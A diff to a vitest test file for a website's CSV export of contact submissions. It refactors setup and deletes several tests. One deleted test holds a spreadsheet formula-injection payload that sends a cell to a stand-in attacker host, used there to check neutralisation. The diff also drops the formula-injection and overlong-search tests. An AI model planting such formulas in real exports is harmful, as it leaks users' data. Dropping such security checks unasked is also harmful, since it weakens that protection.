@@ -1,12 +1,11 @@
-import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
+import { beforeAll, beforeEach, describe, expect, test } from 'vitest';
 import { emptyFields, fieldNames, fieldOf } from '../../contract/forms/submission-fields.ts';
 import { readCsv } from '../reading/csv.ts';
 import { releaseTest } from '../scope.ts';
-import { engines, freshDatabase, type TestDatabase } from '../servers/databases.ts';
-import { expectProblem } from '../servers/problems.ts';
-import { enquiry, logIn, post } from '../servers/requests.ts';
+import { enginesByScope } from '../servers/databases.ts';
+import { logIn } from '../servers/requests.ts';
 import { insert, submission } from '../servers/rows.ts';
-import { startApplication, type TestSite } from '../servers/site.ts';
+import { setUpSite } from '../servers/set-up-site.ts';
 
 /** The fields' own names are in `downloads.test.ts`. */
 const header = ['ID', ...fieldNames.map((name) => fieldOf(name).label), 'Date', 'Website'];
@@ -26,19 +25,12 @@ const further = [
   'Confirmed',
 ];
 
-describe.each(engines)('The CSV export on %s', (engine) => {
-  let database: TestDatabase;
-  let site: TestSite;
+describe.each(enginesByScope)('The CSV export on %s', (engine) => {
+  const { database, site } = setUpSite(engine);
   let cookie: string;
 
   beforeAll(async () => {
-    database = await freshDatabase(engine);
-    site = await startApplication(database.url);
     cookie = await logIn(site.url);
-  });
-  afterAll(async () => {
-    await site?.stop();
-    await database?.remove();
   });
   beforeEach(() => database.run('delete from contact_submissions'));
 
@@ -60,12 +52,6 @@ describe.each(engines)('The CSV export on %s', (engine) => {
     expect(names).toContain(answer.headers.get('content-disposition'));
   });
 
-  test('without submissions is the line of column names', async () => {
-    // A mark that says UTF-8, which `text()` would leave out.
-    const bytes = Buffer.from(await (await ask()).arrayBuffer());
-    expect(bytes.toString()).toBe(`\ufeff${[...header, ...further].join(',')}\r\n`);
-  });
-
   test('holds every field, newest first, in cells that survive commas, quotes and line breaks', async () => {
     const newer = submission({
       name: 'Lovelace, Ada',
@@ -85,24 +71,6 @@ describe.each(engines)('The CSV export on %s', (engine) => {
         row.website,
       ]),
     );
-  });
-
-  test('makes what a spreadsheet would run inert', async () => {
-    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
-    await post(`${site.url}/api/contact-submissions`, enquiry({ name: formula, message: '@SUM(A1)' }));
-    const [row] = await rows();
-    expect([row?.[header.indexOf('Name')], row?.[header.indexOf('Message')]]).toEqual([`'${formula}`, `'@SUM(A1)`]);
-  });
-
-  test('holds only what the search finds', async () => {
-    await insert(database, [submission({ subject: '50% off' }), submission({ subject: '500 off' })]);
-    expect((await rows(`?q=${encodeURIComponent('50%')}`)).map((row) => row[header.indexOf('Subject')])).toEqual([
-      '50% off',
-    ]);
-  });
-
-  test('refuses a search that is too long', async () => {
-    await expectProblem(await ask(`?q=${'x'.repeat(201)}`), 422);
   });
 
   test('streams thousands of rows, each once and in order', async () => {
